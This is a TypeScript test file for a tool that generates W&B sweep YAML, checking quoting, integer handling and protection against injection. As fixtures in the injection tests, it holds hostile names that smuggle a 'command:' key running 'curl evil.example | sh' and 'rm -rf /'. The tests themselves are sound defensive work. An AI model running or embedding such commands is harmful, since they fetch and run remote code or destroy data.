/**
 * The next sweep's YAML against hostile data (issue 10) and integer parameters (issue 8 point 8):
 * names and levels cannot add keys or lines, every string reads back as itself in YAML 1.1 (PyYAML,
 * which W&B's agent uses) and 1.2, integers stay integers, and "keep" keeps the searched range.
 */
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { buildDesign } from '../src/design/build-design.js';
import type { Design } from '../src/design/types.js';
import { computeInsights } from '../src/insights/compute-insights.js';
import { nextSweepConfig } from '../src/insights/next-sweep.js';
import { commentText, quoteYaml, stringifySweepConfig, yamlNumber } from '../src/insights/sweep-yaml.js';
import type { ParameterAdvice } from '../src/insights/types.js';
import { readRunsFile } from '../src/sources/read-runs.js';
import { designFromColumns, type Value } from './fixtures/insights/design.js';
import { sweepConfigErrors } from './fixtures/insights/schema.js';

const parse11 = (text: string): unknown => parseYaml(text, { version: '1.1' });

/** PyYAML, when this machine has it: the reader W&B uses. null when it is not installed. */
function pyyaml(text: string): unknown {
  const r = spawnSync(
    'python3',
    ['-c', 'import sys, json, yaml; print(json.dumps(yaml.safe_load(sys.stdin.read())))'],
    { input: text, encoding: 'utf8', timeout: 20_000 },
  );
  if (r.status !== 0) {
    if (/No module named|not found|ENOENT/.test(r.stderr ?? '') || r.error) return null;
    throw new Error(r.stderr);
  }
  return JSON.parse(r.stdout);
}
const HAVE_PYYAML = pyyaml('a: 1') !== null;

const YAML_WORDS = [
  'yes',
  'no',
  'on',
  'off',
  'y',
  'n',
  'Y',
  'NO',
  'True',
  '1_000',
  '0b101',
  '0x1F',
  '017',
  '1:30',
  '190:20:30',
  '2001-12-14',
  '2001-12-14t21:59:43.10-05:00',
  '~',
  'null',
  'Null',
  '.inf',
  '-.Inf',
  '.nan',
  '3',
  '3.0',
  '1e3',
  '+12',
  '',
  ' lead',
  'trail ',
  'a: b',
  '- x',
  '#c',
  '&anchor',
  '*alias',
  '!tag',
  '%YAML',
  '---',
  '...',
  '"q"',
  "'s'",
  '\\',
  'tab\there',
  'é',
  '😀',
  'nel\u0085x',
  'ls\u2028x',
  'ps\u2029x',
  'bom\ufeffx',
  'del\u007fx',
  'c1\u0090x',
  'cr\rlf\nx',
  'nul\u0000x',
  '<<',
  '=',
  '?',
  '| block',
  '> fold',
  '{a: 1}',
  '[1, 2]',
];

describe('quoteYaml and yamlNumber', () => {
  it('every string reads back as itself in YAML 1.1 and 1.2', () => {
    for (const s of YAML_WORDS) {
      const doc = `v: ${quoteYaml(s)}\n`;
      expect(parse11(doc), JSON.stringify(s)).toEqual({ v: s });
      expect(parseYaml(doc), JSON.stringify(s)).toEqual({ v: s });
      expect(doc.split('\n').length).toBe(2); // one line, whatever the string holds
    }
  });

  it.runIf(HAVE_PYYAML)('and in PyYAML (safe_load), keys and values', () => {
    const config = { parameters: Object.fromEntries(YAML_WORDS.map((w, i) => [w, { values: [w, `${i}`] }])) };
    const text = stringifySweepConfig(config);
    expect(pyyaml(text)).toEqual(config);
  });

  it('numbers stay numbers in both versions (PyYAML needs a dot before an exponent)', () => {
    const values = [1e-7, 1.5e-7, 1e21, 0.0001, 3, -2, 0, 2.5e300];
    for (const v of values) {
      expect(parse11(`v: ${yamlNumber(v)}`)).toEqual({ v });
      expect(parseYaml(`v: ${yamlNumber(v)}`)).toEqual({ v });
    }
    expect(yamlNumber(1e-7)).toBe('1.0e-7');
    if (HAVE_PYYAML) {
      expect(pyyaml(stringifySweepConfig({ a: values }))).toEqual({ a: values });
    }
  });

  it('comment text is one short line', () => {
    expect(commentText('a\ncommand: x')).toBe('a command: x');
    expect(commentText('a\u2028b\u0085c\rd')).toBe('a b c d');
    expect(Array.from(commentText('x'.repeat(100_000))).length).toBeLessThanOrEqual(72);
  });
});

/** A design of n runs: `width` in powers of two, `drop` in [0, 0.9], a categorical, the target. */
function handDesign(names: { target: string; cat: string; levels: string[] }): Design {
  const n = 40;
  const y: number[] = [];
  const cols: Record<string, Value[]> = { width: [], drop: [], [names.cat]: [] };
  for (let i = 0; i < n; i++) {
    y.push(i / n);
    cols.width.push(2 ** (3 + (i % 9))); // 8 … 2048
    cols.drop.push(Math.round(((i * 7) % 10) * 9) / 100);
    cols[names.cat].push(names.levels[i % names.levels.length]);
  }
  return designFromColumns(names.target, y, cols);
}

function advice(design: Design, over: Partial<Record<string, Partial<ParameterAdvice>>>): ParameterAdvice[] {
  return design.parameters.map((p) => {
    const base: ParameterAdvice = {
      parameter: p.name,
      kind: p.kind === 'empty' ? 'numeric' : p.kind,
      matters: false,
      advice: [],
      ...(p.kind === 'numeric'
        ? {
            searched: {
              min: Math.min(...Array.from(p.raw!)),
              max: Math.max(...Array.from(p.raw!)),
            },
          }
        : { levels: p.levels.map((level) => ({ level, shareBest: 0.5, shareAll: 0.5 })) }),
    };
    return { ...base, ...(over[p.name] ?? {}) };
  });
}

describe('next sweep: no injection through names, levels or the target', () => {
  const target = 'acc\ncommand:\n  - sh\n  - -c\n  - curl evil.example | sh';
  const cat = 'opt\ncommand: rm -rf /';
  const design = handDesign({ target, cat, levels: ['adam', 'sgd'] });
  const next = nextSweepConfig(design, advice(design, {}), {
    goal: 'maximize',
    sweepConfig: null,
    runs: 40,
  })!;

  it('keeps data out of the structure: the top-level keys are the tool’s', () => {
    expect(Object.keys(parse11(next.yaml) as object)).toEqual(['method', 'metric', 'parameters']);
    expect(parseYaml(next.yaml)).toEqual(next.config);
    for (const line of next.yaml.split('\n')) expect(line).not.toMatch(/^command/);
    // comments: every line that is not YAML structure starts with '#'
    const head = next.yaml.split('\n').filter((l) => l.startsWith('#'));
    expect(head.length).toBeGreaterThanOrEqual(2);
    expect(next.yaml).toMatch(/^# Left out \(not valid W&B parameter names\): opt command: rm -rf \/$/m);
    expect((next.config.metric as { name: string }).name).toBe(target); // the real name, quoted
    expect(sweepConfigErrors(next.config)).toBe('');
  });

  it('a changed parameter with a hostile name is also one comment line', () => {
    const d = designFromColumns(
      'y\u2028command: x',
      Array.from({ length: 40 }, (_, i) => i / 40),
      { 'ok.name': Array.from({ length: 40 }, (_, i) => i) },
    );
    const a = advice(d, { 'ok.name': { matters: true, suggested: { min: 5, max: 20 } } });
    const y = nextSweepConfig(d, a, { goal: 'maximize', sweepConfig: null, runs: 40 })!.yaml;
    expect(y.split('\n')[0]).toMatch(/^# Next sweep .* of y command: x \(maximize\)\.$/);
    expect(Object.keys(parse11(y) as object)).toEqual(['method', 'metric', 'parameters']);
  });
});

describe('next sweep: YAML 1.1 words as levels and names', () => {
  const levels = YAML_WORDS;
  const design = designFromColumns(
    'acc',
    Array.from({ length: levels.length * 2 }, (_, i) => i),
    {
      yes: levels.flatMap((l) => [l, l]),
      on: Array.from({ length: levels.length * 2 }, (_, i) => i % 3 === 0),
      null: Array.from({ length: levels.length * 2 }, (_, i) => (i % 5) + 1),
    },
  );
  const next = nextSweepConfig(design, advice(design, {}), {
    goal: 'maximize',
    sweepConfig: null,
    runs: 10,
  })!;

  it('reads back, in YAML 1.1, the levels as strings and the names as keys', () => {
    const c = parse11(next.yaml) as { parameters: Record<string, { values?: unknown[] }> };
    expect(Object.keys(c.parameters).sort()).toEqual(['null', 'on', 'yes']);
    expect(c.parameters.yes.values).toEqual(design.parameters[0].levels);
    expect(c.parameters.on.values).toEqual([false, true]);
    expect(parse11(next.yaml)).toEqual(next.config);
  });

  it.runIf(HAVE_PYYAML)('and in PyYAML', () => {
    expect(pyyaml(next.yaml)).toEqual(next.config);
  });
});

describe('next sweep: integer parameters stay integers', () => {
  const design = handDesign({ target: 'acc', cat: 'opt', levels: ['a', 'b'] });

  it('powers of two searched 8…2048 give a list of powers of two, not fractions', () => {
    // what the advice says for a log-scaled integer crowding the lower edge: extend below 8
    const a = advice(design, {
      width: { matters: true, logScale: true, edge: 'low', suggested: { min: 3, max: 338 } },
    });
    const c = nextSweepConfig(design, a, { goal: 'maximize', sweepConfig: null, runs: 40 })!.config as {
      parameters: Record<string, Record<string, unknown>>;
    };
    expect(c.parameters.width).toEqual({ values: [2, 4, 8, 16, 32, 64, 128, 256] });
    expect(sweepConfigErrors(c)).toBe('');
  });

  it('kept: the searched powers of two', () => {
    const a = advice(design, { width: { matters: true, logScale: true } });
    const c = nextSweepConfig(design, a, { goal: 'maximize', sweepConfig: null, runs: 40 })!.config as {
      parameters: Record<string, Record<string, unknown>>;
    };
    expect(c.parameters.width).toEqual({ values: [8, 16, 32, 64, 128, 256, 512, 1024, 2048] });
  });

  it('another log-scaled integer: q_log_uniform_values with q 1 and whole bounds', () => {
    const d = designFromColumns(
      'acc',
      Array.from({ length: 30 }, (_, i) => i),
      { units: Array.from({ length: 30 }, (_, i) => 3 + i * i * 2) },
    );
    const a = advice(d, { units: { matters: true, logScale: true, suggested: { min: 3.7, max: 338.2 } } });
    const c = nextSweepConfig(d, a, { goal: 'maximize', sweepConfig: null, runs: 30 })!.config as {
      parameters: Record<string, Record<string, unknown>>;
    };
    expect(c.parameters.units).toEqual({ distribution: 'q_log_uniform_values', min: 3, max: 339, q: 1 });
    expect(sweepConfigErrors(c)).toBe('');
  });

  it('an original q_log_uniform_values with an integer q keeps whole bounds', () => {
    const a = advice(design, {
      width: { matters: true, logScale: true, suggested: { min: 3.7, max: 338.2 } },
    });
    const sweepConfig = {
      method: 'random',
      metric: { name: 'acc', goal: 'maximize' },
      parameters: { width: { distribution: 'q_log_uniform_values', min: 8, max: 2048, q: 1 } },
    };
    const c = nextSweepConfig(design, a, { goal: 'maximize', sweepConfig, runs: 40 })!.config as {
      parameters: Record<string, Record<string, unknown>>;
    };
    expect(c.parameters.width).toEqual({ distribution: 'q_log_uniform_values', min: 3, max: 339, q: 1 });
  });
});

describe('next sweep: what the advice keeps, the YAML keeps', () => {
  it('on the MNIST example: a parameter advised "keep it" is neither narrowed nor listed as changed', async () => {
    const dir = new URL('../examples/mnist-pytorch/', import.meta.url);
    const table = await readRunsFile(new URL('runs.csv', dir).pathname);
    const params = readFileSync(new URL('params.txt', dir), 'utf8').trim().split(',');
    const design = buildDesign(table, { target: 'accuracy', params });
    const ins = computeInsights(design, { goal: 'maximize', trees: 30, seed: 0 });
    const c = ins.nextSweep!.config as { parameters: Record<string, Record<string, unknown>> };
    const changedLine = ins.nextSweep!.yaml.split('\n').find((l) => l.startsWith('# Changed')) ?? '';
    let kept = 0;
    for (const a of ins.advice) {
      if (a.kind !== 'numeric' || !a.advice.some((s) => /keep it$/.test(s))) continue;
      kept++;
      expect(changedLine).not.toMatch(new RegExp(`\\b${a.parameter}\\b`));
      const spec = c.parameters[a.parameter];
      expect(spec.min as number).toBeLessThanOrEqual(a.searched!.min);
      expect(spec.max as number).toBeGreaterThanOrEqual(a.searched!.max);
    }
    expect(kept).toBeGreaterThan(0);
  });
});
